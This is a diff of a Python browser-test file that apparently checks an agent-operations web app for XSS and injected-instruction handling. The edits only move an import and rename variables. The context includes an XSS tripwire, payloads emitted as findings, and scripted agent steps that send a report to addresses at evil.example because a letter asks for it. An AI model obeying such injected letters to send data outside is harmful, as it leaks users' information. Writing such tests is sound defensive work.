@@ -9,8 +9,8 @@ import pytest
 from playwright.sync_api import Error, expect
 
 from halter.operations import decisions
+from halter.operations.actor import Actor, Principal
 from halter.operations.decisions import WaitingDecision, waiting
-from halter.operations.desk import Actor, Principal
 from halter.server.server import make_login_url
 from scripts.page_pictures import find_browser
 from tests.browser.house import SLEEPS, House, Line, call, line, script
@@ -36,15 +36,15 @@ TRIPWIRE = "window.__xss = 0; for (const name of ['alert', 'confirm', 'prompt'])
 @pytest.fixture(scope="package")
 def chromium() -> Iterator[Any]:
     """Skip loudly where there is no browser; where everything is required, fail."""
-    found = find_browser()
-    if found is None:
+    text = find_browser()
+    if text is None:
         if os.environ.get("HALTER_REQUIRE_ALL") == "1":
             pytest.fail("There is no chromium: install the system's packages of scripts/system-packages.")
         pytest.skip("There is no chromium, so no page was looked at.")
     from playwright.sync_api import sync_playwright
 
     with sync_playwright() as playwright:
-        browser = playwright.chromium.launch(executable_path=found, args=SWITCHES)
+        browser = playwright.chromium.launch(executable_path=text, args=SWITCHES)
         yield browser
         browser.close()
 
@@ -54,8 +54,8 @@ def pay(to: str) -> Line:
 
 
 def find(payloads: Sequence[str]) -> Line:
-    found = (call("emit_finding", title=payload, text=payload, severity="high") for payload in payloads)
-    return line("find it all", "\n".join(payloads), *found)
+    lines = (call("emit_finding", title=payload, text=payload, severity="high") for payload in payloads)
+    return line("find it all", "\n".join(payloads), *lines)
 
 
 def forward() -> Iterator[Line]:
@@ -67,8 +67,8 @@ def forward() -> Iterator[Line]:
             f"{name}@evil.example", "The letter asks for it.", call("send_letter", to=f"{name}@evil.example", text=text)
         )
     yield line("read letter 5", "I look into it.", call("read_letter", name="kim"))
-    both = (call("send_letter", to=f"{name}@evil.example", text="The report.") for name in ("kim", "lee"))
-    yield line("kim@evil.example", "The letter asks for both.", *both)
+    lines = (call("send_letter", to=f"{name}@evil.example", text="The report.") for name in ("kim", "lee"))
+    yield line("kim@evil.example", "The letter asks for both.", *lines)
 
 
 LINKS = line("what does it say", "It says: go to https://evil.example/now.", call("yield", **SLEEPS))
@@ -111,7 +111,7 @@ def paid(house: House) -> House:
     approver = Actor(house.desk.app, Principal("approver", "approver"))
 
     def asked() -> list[WaitingDecision]:
-        return [one for one in house.does(waiting(approver)) if "gina" in one.display_text]
+        return [person for person in house.does(waiting(approver)) if "gina" in person.display_text]
 
     house.tell("pay gina")
     house.until(lambda: bool(asked()))
@@ -136,8 +136,8 @@ class Visitor:
         self.page.on("request", lambda request: self._asked(request.url))
         self.page.on("websocket", lambda socket: self._asked(socket.url))
 
-    def _complain(self, said: Any) -> None:
-        self.complaints.append(f"{said.text} ({said.location})")
+    def _complain(self, result: Any) -> None:
+        self.complaints.append(f"{result.text} ({result.location})")
 
     def _asked(self, url: str) -> None:
         scheme, _, rest = url.partition("://")
